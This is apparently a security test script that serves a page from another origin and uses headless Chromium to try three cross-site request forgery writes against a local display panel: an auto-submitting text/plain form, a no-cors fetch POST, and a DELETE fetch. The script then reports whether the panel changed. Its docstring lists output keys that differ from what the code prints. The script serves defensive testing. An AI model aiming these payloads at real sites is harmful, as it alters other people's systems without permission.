"""A web page of another origin tries to change the panel, in a real browser.

usage: attack.py DISPLAY_URL NONCE

Serves an attacker's page on 127.0.0.1 (another port: another origin) and opens it in Debian's
headless Chromium (Playwright). The page tries three writes to DISPLAY_URL that any site could make:
a form that auto-submits `text/plain` (no CORS preflight), a `fetch` POST with `mode: no-cors`, and a
`fetch` DELETE (preflighted; it goes through when the server's CORS allows any origin). The texts
carry NONCE. Then reads the display's status with a plain request (no Origin: a tool, not a page).

Prints one JSON line: {"shown": the panel's last text, "reached": which attack texts got onto the
panel, "cleared": whether the panel was cleared, "answers": statuses the page's fetches saw}.
Exit 0 when the run worked (whatever it found), 2 when it could not run.
"""

import http.server
import json
import os
import sys
import threading
import time
import urllib.request

from playwright.sync_api import sync_playwright

CHROMIUM = os.environ.get("OLED_CHROMIUM", "/usr/bin/chromium")


ATTACKS = {
    # A form that submits itself as text/plain: a "simple" request, no CORS preflight.
    "form": """<form id="f" method="POST" action="{target}/" enctype="text/plain" target="sink">
<input type="hidden" name="form {nonce}" value="x"></form>
<script>document.getElementById("f").submit(); setTimeout(() => window.done = "submitted", 1500);</script>""",
    # fetch with mode no-cors: sent as is; the page only cannot read the answer.
    "nocors": """<script>fetch("{target}/", {{method: "POST", mode: "no-cors", body: "nocors {nonce}"}})
  .then(r => window.done = "opaque " + r.type, e => window.done = "error " + e);</script>""",
    # DELETE needs a CORS preflight: it goes through only if the server's CORS allows this origin.
    "delete": """<script>fetch("{target}/", {{method: "DELETE"}})
  .then(r => window.done = "status " + r.status, e => window.done = "error " + e);</script>""",
}


def page_html(target, nonce, attack):
    body = ATTACKS[attack].format(target=target, nonce=nonce)
    return f"""<!doctype html><html><body><iframe name="sink" style="display:none"></iframe>
{body}</body></html>""".encode()


def post(target, text):
    req = urllib.request.Request(target + "/", data=text.encode(), method="POST")
    with urllib.request.urlopen(req, timeout=10) as r:
        return r.status


def status(target):
    with urllib.request.urlopen(target + "/", timeout=10) as r:
        return json.load(r).get("status", {})


def main():
    if len(sys.argv) != 3:
        print(__doc__, file=sys.stderr)
        return 2
    target, nonce = sys.argv[1].rstrip("/"), sys.argv[2]

    class Page(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            attack = self.path.strip("/?") or "form"
            if attack not in ATTACKS:
                self.send_error(404)
                return
            html = page_html(target, nonce, attack)
            self.send_response(200)
            self.send_header("content-type", "text/html")
            self.send_header("content-length", str(len(html)))
            self.end_headers()
            self.wfile.write(html)

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Page)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    evil = f"http://127.0.0.1:{server.server_address[1]}"
    result = {"page": evil, "attacks": {}}
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        for attack in ATTACKS:
            before = f"owner {attack} {nonce}"
            post(target, before)
            page = browser.new_page()
            page.goto(f"{evil}/{attack}")
            page.wait_for_function("window.done !== undefined", timeout=15000)
            seen = page.evaluate("window.done")
            page.close()
            time.sleep(0.3)
            shown = status(target).get("last_text")
            changed = shown != before
            result["attacks"][attack] = {"page_saw": seen, "panel_shows": shown, "changed": changed}
        browser.close()
    server.shutdown()
    result["changed"] = [a for a, r in result["attacks"].items() if r["changed"]]
    print(json.dumps(result))
    return 0


if __name__ == "__main__":
    sys.exit(main())
